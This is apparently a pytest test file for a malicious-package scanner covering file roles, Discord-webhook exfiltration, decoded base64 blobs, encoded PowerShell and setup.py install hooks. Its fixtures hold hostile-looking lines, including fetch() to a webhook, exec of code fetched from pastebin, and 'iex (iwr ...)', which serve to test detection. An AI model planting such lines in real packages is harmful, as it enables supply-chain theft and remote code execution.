"""How scan_package reads a package: roles, limits, excerpts, decoded blobs, ordering."""

from __future__ import annotations

import base64
import dataclasses
import json
from collections.abc import Mapping

import pytest

from analyzer.detect.static import package
from analyzer.detect.static import scan as static
from analyzer.detect.static.scan import FileRole, SignalKind, StaticSignal, file_role, scan_package
from analyzer.detect.static.text import Lang
from analyzer.models import Ecosystem
from analyzer.signals import MAX_FILE_BYTES

HOOK = "https://discord.com/api/webhooks/123456789012345678/tok"


def scan(
    files: Mapping[str, str | bytes], ecosystem: Ecosystem = Ecosystem.PYPI
) -> list[StaticSignal]:
    return list(
        scan_package(
            ((p, b.encode() if isinstance(b, str) else b) for p, b in files.items()), ecosystem
        )
    )


@pytest.mark.parametrize(
    ("path", "lang", "role"),
    [
        ("pkg-1.0/pkg/core.py", Lang.PYTHON, FileRole.CODE),
        ("pkg-1.0/tests/test_core.py", Lang.PYTHON, FileRole.TEST),
        ("pkg-1.0/pkg/core_test.py", Lang.PYTHON, FileRole.TEST),
        ("package/lib/__tests__/a.js", Lang.JS, FileRole.TEST),
        ("package/lib/a.spec.ts", Lang.JS, FileRole.TEST),
        ("pkg-1.0/docs/conf.py", Lang.PYTHON, FileRole.DOCS),
        ("pkg-1.0/README.md", Lang.OTHER, FileRole.DOCS),
        ("pkg-1.0/notes.txt", Lang.OTHER, FileRole.DOCS),
        ("pkg-1.0/.github/workflows/ci.yml", Lang.OTHER, FileRole.DOCS),
        ("pkg-1.0/requirements-dev.txt", Lang.OTHER, FileRole.DATA),
        ("pkg-1.0/pkg.egg-info/requires.txt", Lang.OTHER, FileRole.DATA),
        ("pkg-1.0/pkg.egg-info/PKG-INFO", Lang.OTHER, FileRole.METADATA),
        ("pkg-1.0/LICENSE", Lang.OTHER, FileRole.METADATA),
        ("package/index.d.ts", Lang.JS, FileRole.METADATA),
        ("package/dist/app.js.map", Lang.OTHER, FileRole.METADATA),
        ("pkg-1.0/setup.cfg", Lang.OTHER, FileRole.DATA),
    ],
)
def test_file_role(path: str, lang: Lang, role: FileRole) -> None:
    assert file_role(path, lang) is role


def test_install_time_files() -> None:
    manifest = {"name": "p", "main": "lib/main.js", "scripts": {"preinstall": "node ."}}
    files = {
        "package/package.json": json.dumps(manifest),
        "package/lib/main.js": f"fetch('{HOOK}')\n",
        "package/lib/other.js": f"fetch('{HOOK}')\n",
    }
    roles = {s.path: s.role for s in scan(files, Ecosystem.NPM)}
    assert roles["package/lib/main.js"] is FileRole.INSTALL
    assert roles["package/lib/other.js"] is FileRole.CODE
    assert roles["package/package.json"] is FileRole.INSTALL
    py = scan(
        {
            "p-1/setup.py": f"H = '{HOOK}'",
            "p-1/p.pth": f"import p  # {HOOK}",
            "p-1/p/x/setup.py": f"H = '{HOOK}'",
        }
    )
    assert {s.path: s.role for s in py} == {
        "p-1/setup.py": FileRole.INSTALL,
        "p-1/p.pth": FileRole.INSTALL,
        "p-1/p/x/setup.py": FileRole.CODE,
    }


def test_excerpt_is_trimmed_and_made_safe_to_display() -> None:
    line = "x = 1; " * 60 + f"\x1b[31murl = '{HOOK}'  # \u202e gnp.exe" + "; y = 2" * 60
    [signal] = [s for s in scan({"p-1/p/a.py": line}) if s.kind is SignalKind.EXFIL_WEBHOOK]
    assert len(signal.excerpt) <= 202
    assert "discord.com/api/webhooks" in signal.excerpt
    assert "\x1b" not in signal.excerpt and "\u202e" not in signal.excerpt
    assert "\\u001b" in signal.excerpt and "\\u202e" in signal.excerpt


def test_decoded_blob_text_is_rescanned_and_marked() -> None:
    inner = "import urllib.request\nexec(urllib.request.urlopen('https://pastebin.com/raw/q1w2e3').read())\n"
    blob = base64.b64encode(inner.encode() * 2).decode()
    signals = scan({"p-1/p/a.py": f"import base64\n\nDATA = '{blob}'\n"})
    [paste] = [s for s in signals if s.kind is SignalKind.PASTE_SITE]
    assert paste.line == 3
    assert paste.excerpt.startswith("[decoded] ")
    assert "in the base64 string at line 3" in paste.detail
    assert {SignalKind.ENCODED_PAYLOAD, SignalKind.EXEC_REMOTE} <= {s.kind for s in signals}


def test_powershell_command_is_decoded_into_the_detail() -> None:
    command = base64.b64encode("iex (iwr https://example.com/a)".encode("utf-16-le")).decode()
    [signal] = [
        s
        for s in scan({"p-1/p/a.py": f"os.system('powershell -enc {command}')"})
        if s.kind is SignalKind.POWERSHELL_ENCODED
    ]
    assert signal.detail == "decodes to: iex (iwr https://example.com/a)"


def test_signals_per_kind_and_file_are_capped_and_counted() -> None:
    code = "".join(f"H{i} = '{HOOK}{i}'\n" for i in range(8))
    hooks = [s for s in scan({"p-1/p/a.py": code}) if s.kind is SignalKind.EXFIL_WEBHOOK]
    assert [s.line for s in hooks] == [1, 2, 3, 4, 5]
    assert hooks[-1].detail.endswith("(+3 more in this file)")


def test_large_files_and_packages_say_what_was_not_scanned(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package, "MAX_TOTAL_BYTES", 1000)  # where the budget is applied
    monkeypatch.setattr(static, "MAX_TOTAL_BYTES", 1000)  # and where it is reported
    exe = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(100)
    files: dict[str, str | bytes] = {
        "p-1/p/a.py": "x = 1\n" * 300,
        "p-1/p/b.py": f"H = '{HOOK}'",
        "p-1/p/c.exe": exe,
    }
    signals = scan(files)
    kinds = {(s.path, s.kind) for s in signals}
    assert ("p-1/p/b.py", SignalKind.SCAN_TRUNCATED) in kinds
    assert ("p-1/p/c.exe", SignalKind.BUNDLED_EXECUTABLE) in kinds
    assert ("p-1/p/b.py", SignalKind.EXFIL_WEBHOOK) not in kinds


def test_python2_setup_py_falls_back_to_patterns() -> None:
    setup = (
        "import os\nprint 'installing'\nos.system('echo owned')\n"
        "setup(cmdclass={'install': Hook})\n"
    )
    signals = scan({"p-1/setup.py": setup})
    assert {s.kind for s in signals} == {
        SignalKind.SETUP_RUNS_PROCESS,
        SignalKind.SETUP_CMDCLASS_HOOK,
    }
    assert all("did not parse" in s.detail for s in signals)


def test_setup_hook_detail_names_the_class_and_what_it_calls() -> None:
    setup = (
        "import os\nfrom setuptools.command.develop import develop\n"
        "class D(develop):\n    def run(self):\n        os.system('id')\n"
        "setup(cmdclass={'develop': D})\n"
    )
    signals = scan({"p-1/setup.py": setup})
    [hook] = [s for s in signals if s.kind is SignalKind.SETUP_CMDCLASS_HOOK]
    assert hook.detail == "cmdclass 'develop' -> D; its code calls os.system"
    [proc] = [s for s in signals if s.kind is SignalKind.SETUP_RUNS_PROCESS]
    assert proc.detail == "os.system: id (in D.run)"


def test_output_is_sorted_frozen_and_paths_normalised() -> None:
    signals = scan({"./p-1/p/b.py": f"H = '{HOOK}'", "p-1\\p\\a.py": f"\n\nH = '{HOOK}'"})
    assert [(s.path, s.line) for s in signals] == [("p-1/p/a.py", 3), ("p-1/p/b.py", 1)]
    with pytest.raises(dataclasses.FrozenInstanceError):
        signals[0].line = 1  # type: ignore[misc]


def test_commands_only_a_developer_runs_are_not_install_time() -> None:
    setup = (
        "import subprocess, sys\nfrom setuptools import Command, setup\n"
        "class Test(Command):\n    def run(self):\n"
        "        subprocess.call([sys.executable, 'tests/run.py'])\n"
        "class Install(Command):\n    def run(self):\n"
        "        subprocess.call([sys.executable, 'post.py'])\n"
        "cmdclass = dict(test=Test)\ncmdclass['install'] = Install\nsetup(cmdclass=cmdclass)\n"
    )
    signals = scan({"p-1/setup.py": setup})
    assert [(s.kind, s.line) for s in signals] == [
        (SignalKind.SETUP_CMDCLASS_HOOK, 6),
        (SignalKind.SETUP_RUNS_PROCESS, 8),
    ]


def test_hostile_shapes_do_not_break_the_scan() -> None:
    deep = "import os\nos.system('id')\nx = a" + ".b" * 800 + "()\n"
    shapes: dict[str, str | bytes] = {
        "p-1/setup.py": deep,
        "p-1/p/a.py": "exec(" * 5000,
        "p-1/p/b.py": " " * 300_000 + "x",
        "p-1/p/c.js": "eval(" + "a+" * 50_000 + "b)",
        "p-1/p/d.py": bytes(range(256)) * 100,
        "p-1/p/e.py": "".join(f"v{i} = v{i + 1}\n" for i in range(3000)) + "exec(v0)\n",
        "p-1/p/f.pth": "\ufeffimport \u202eos\n",
    }
    kinds = {(s.path, s.kind) for s in scan(shapes)}
    assert ("p-1/setup.py", SignalKind.SETUP_RUNS_PROCESS) in kinds
    assert ("p-1/p/f.pth", SignalKind.PTH_IMPORT) in kinds  # a BOM does not hide the line


def test_a_file_cut_by_the_caller_at_the_limit_is_reported_as_possibly_longer() -> None:
    data = b"x = 1\n" * (MAX_FILE_BYTES // 6) + b"x" * (MAX_FILE_BYTES % 6)
    [signal] = scan_package([("p-1/p/a.py", data)], Ecosystem.PYPI)
    assert signal.kind is SignalKind.SCAN_TRUNCATED
    assert signal.detail == f"only the first {MAX_FILE_BYTES} bytes (or more) were scanned"
